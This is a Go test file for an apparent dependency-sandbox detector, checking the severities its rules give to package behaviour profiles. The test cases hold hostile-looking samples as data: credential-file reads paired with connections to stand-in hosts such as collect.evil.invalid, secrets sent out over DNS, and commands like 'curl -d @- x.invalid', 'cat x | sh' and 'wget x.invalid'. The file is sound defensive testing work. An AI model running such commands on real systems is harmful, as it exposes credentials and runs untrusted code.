package verdict

import (
	"testing"

	"github.com/depbox/depbox/profile"
)

// TestSeverityByRisk: the severities issue 9 set from the evaluation
// corpus (docs/rules.md has the figures).
func TestSeverityByRisk(t *testing.T) {
	proc := func(argv ...string) profile.Process { return profile.Process{Argv: argv, Result: "ok"} }
	cred := profile.File{Path: "/home/sbx_user/.aws/config", Access: profile.AccessRead}
	tests := []struct {
		name  string
		phase string
		b     profile.Behavior
		rule  string
		want  Severity // 0: the rule must not fire
	}{
		{"credential read alone", profile.PhaseImport, profile.Behavior{Files: []profile.File{cred}}, RuleBaitFileRead, Medium},
		{"credential read with a connection", profile.PhaseImport, profile.Behavior{Files: []profile.File{cred},
			Network: []profile.Endpoint{{Host: "collect.evil.invalid", Port: 443, Protocol: "tcp"}}}, RuleBaitFileRead, High},
		{"an AWS SDK reading its credentials and calling AWS", profile.PhaseExecute, profile.Behavior{Files: []profile.File{cred},
			Network: []profile.Endpoint{{Host: "sts.us-east-1.amazonaws.com", Port: 443, Protocol: "tcp"}},
			DNS:     []profile.DNSQuery{{Name: "sts.us-east-1.amazonaws.com", Type: "A"}}}, RuleBaitFileRead, Medium},
		{"credential read with DNS only", profile.PhaseImport, profile.Behavior{Files: []profile.File{cred},
			DNS: []profile.DNSQuery{{Name: "a1b2.evil.invalid", Type: "A"}}}, RuleBaitFileRead, High},
		{"credential read with a process", profile.PhaseImport, profile.Behavior{Files: []profile.File{cred}, Processes: []profile.Process{proc("/bin/cat", "x")}}, RuleBaitFileRead, High},
		{"credential read with loopback only", profile.PhaseImport, profile.Behavior{Files: []profile.File{cred},
			Network: []profile.Endpoint{{Address: "127.0.0.1", Port: 6379, Protocol: "tcp"}, {Address: "/var/run/x.sock", Protocol: "unix"}},
			DNS:     []profile.DNSQuery{{Name: "localhost"}},
		}, RuleBaitFileRead, Medium},
		{"install script reading .npmrc, only the script itself runs", profile.PhaseInstall, profile.Behavior{Files: []profile.File{{Path: "/home/sbx_user/.npmrc", Access: "read"}},
			Processes: []profile.Process{proc("sh", "-c", "node install.js"), proc("node", "install.js")}}, RuleBaitFileRead, Medium},
		{"install script reading .npmrc and starting curl", profile.PhaseInstall, profile.Behavior{Files: []profile.File{{Path: "/home/sbx_user/.npmrc", Access: "read"}},
			Processes: []profile.Process{proc("sh", "-c", "node install.js"), proc("node", "install.js"), proc("curl", "-d", "@-", "x.invalid")}}, RuleBaitFileRead, High},
		{"unattributed network counts", profile.PhaseImport, profile.Behavior{Files: []profile.File{cred},
			Unattributed: &profile.Behavior{Network: []profile.Endpoint{{Address: "198.51.100.7", Port: 443, Protocol: "tcp"}}}}, RuleBaitFileRead, High},

		{"credential file stat only, with a connection (pg's pgpass)", profile.PhaseExecute, profile.Behavior{Files: []profile.File{{Path: "/home/sbx_user/.pgpass", Access: profile.AccessStat}},
			Network: []profile.Endpoint{{Host: "collect.evil.invalid", Port: 5432, Protocol: "tcp"}}}, RuleBaitFileRead, Low},
		{"credential directory listed only", profile.PhaseImport, profile.Behavior{Files: []profile.File{{Path: "/home/sbx_user/.ssh", Access: profile.AccessList}}}, RuleBaitFileRead, Low},
		{"stat, then read", profile.PhaseExecute, profile.Behavior{Files: []profile.File{{Path: "/home/sbx_user/.pgpass", Access: profile.AccessStat}, {Path: "/home/sbx_user/.aws/credentials", Access: profile.AccessRead}},
			Network: []profile.Endpoint{{Host: "collect.evil.invalid", Port: 443, Protocol: "tcp"}}}, RuleBaitFileRead, High},
		{"secret and DNS only", profile.PhaseInvoke, profile.Behavior{Env: []string{"GITHUB_TOKEN"}, DNS: []profile.DNSQuery{{Name: "ghp-x.evil.invalid", Type: "TXT"}}}, RuleSecretEnvNetwork, High},
		{"execute: a client's own setting and its service (nodemailer)", profile.PhaseExecute, profile.Behavior{Env: []string{"ETHEREAL_API_KEY"},
			Network: []profile.Endpoint{{Host: "api.nodemailer.com", Port: 443, Protocol: "tcp"}}}, RuleSecretEnvNetwork, Medium},
		{"execute: a planted credential and a connection", profile.PhaseExecute, profile.Behavior{Env: []string{"PGPASSWORD", "GITHUB_TOKEN"},
			Network: []profile.Endpoint{{Host: "collect.evil.invalid", Port: 443, Protocol: "tcp"}}}, RuleSecretEnvNetwork, High},
		{"import: an unplanted secret and a connection", profile.PhaseImport, profile.Behavior{Env: []string{"ETHEREAL_API_KEY"},
			Network: []profile.Endpoint{{Host: "api.nodemailer.com", Port: 443, Protocol: "tcp"}}}, RuleSecretEnvNetwork, High},
		{"secret and an AWS name", profile.PhaseInvoke, profile.Behavior{Env: []string{"AWS_SECRET_ACCESS_KEY"}, DNS: []profile.DNSQuery{{Name: "s3.us-east-1.amazonaws.com"}}}, RuleSecretEnvNetwork, 0},
		{"secret and localhost", profile.PhaseInvoke, profile.Behavior{Env: []string{"API_KEY"}, DNS: []profile.DNSQuery{{Name: "localhost"}}}, RuleSecretEnvNetwork, 0},

		{"core-js postinstall loads its own file", profile.PhaseInstall, profile.Behavior{Processes: []profile.Process{
			proc("sh", "-c", `node -e "try{require('./postinstall')}catch(e){}"`), proc("node", "-e", "try{require('./postinstall')}catch(e){}")}}, RuleShellDownloader, 0},
		{"its own file, plain", profile.PhaseInstall, profile.Behavior{Processes: []profile.Process{proc("node", "-e", `require("./scripts/postinstall.js");`)}}, RuleShellDownloader, 0},
		{"a file outside the package", profile.PhaseInstall, profile.Behavior{Processes: []profile.Process{proc("node", "-e", "require('../../x')")}}, RuleShellDownloader, High},
		{"a module, not a file", profile.PhaseInstall, profile.Behavior{Processes: []profile.Process{proc("node", "-e", "require('child_process').execSync('id')")}}, RuleShellDownloader, High},
		{"more than a require", profile.PhaseInstall, profile.Behavior{Processes: []profile.Process{proc("node", "-e", "require('./a');require('https').get('x')")}}, RuleShellDownloader, High},
		{"own file outside the install phase", profile.PhaseImport, profile.Behavior{Processes: []profile.Process{proc("node", "-e", "require('./postinstall')")}}, RuleShellDownloader, High},

		{"a shell looking up the machine id (node-machine-id)", profile.PhaseExecute, profile.Behavior{Processes: []profile.Process{
			proc("/bin/sh", "-c", "( cat /var/lib/dbus/machine-id /etc/machine-id 2> /dev/null || hostname ) | head -n 1 || :")}}, RuleShellDownloader, Medium},
		{"a shell listing processes (pstree.remy)", profile.PhaseImport, profile.Behavior{Processes: []profile.Process{proc("/bin/sh", "-c", "ps")}}, RuleShellDownloader, Medium},
		{"a shell with a substitution", profile.PhaseImport, profile.Behavior{Processes: []profile.Process{proc("/bin/sh", "-c", "echo $(curl -s x.invalid)")}}, RuleShellDownloader, High},
		{"a shell writing a file", profile.PhaseImport, profile.Behavior{Processes: []profile.Process{proc("/bin/sh", "-c", "cat /etc/machine-id > /tmp/x")}}, RuleShellDownloader, High},
		{"a shell piping into another shell", profile.PhaseImport, profile.Behavior{Processes: []profile.Process{proc("/bin/sh", "-c", "cat x | sh")}}, RuleShellDownloader, High},
		{"a shell running a downloader", profile.PhaseImport, profile.Behavior{Processes: []profile.Process{proc("/bin/sh", "-c", "hostname; wget x.invalid")}}, RuleShellDownloader, High},
		{"a lookup shell beside a downloader", profile.PhaseImport, profile.Behavior{Processes: []profile.Process{proc("/bin/sh", "-c", "ps"), proc("/usr/bin/curl", "x.invalid")}}, RuleShellDownloader, High},
		{"write that succeeded", profile.PhaseInvoke, profile.Behavior{Files: []profile.File{{Path: "/var/task/index.js", Access: "write"}}}, RuleWriteOutsideTmp, High},
		{"write that failed", profile.PhaseInvoke, profile.Behavior{Files: []profile.File{{Path: "/var/task/index.js", Access: "write", Failed: true}}}, RuleWriteOutsideTmp, Medium},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b := tt.b
			res := Evaluate(Input{Profile: prof(dep("a", phases{tt.phase: &b}))}, Options{})
			var got Severity
			for _, f := range res.Findings {
				if f.Rule == tt.rule {
					got = max(got, f.Severity)
				}
			}
			if got != tt.want {
				t.Errorf("%s severity = %v, want %v\nfindings: %+v", tt.rule, got, tt.want, res.Findings)
			}
		})
	}
}
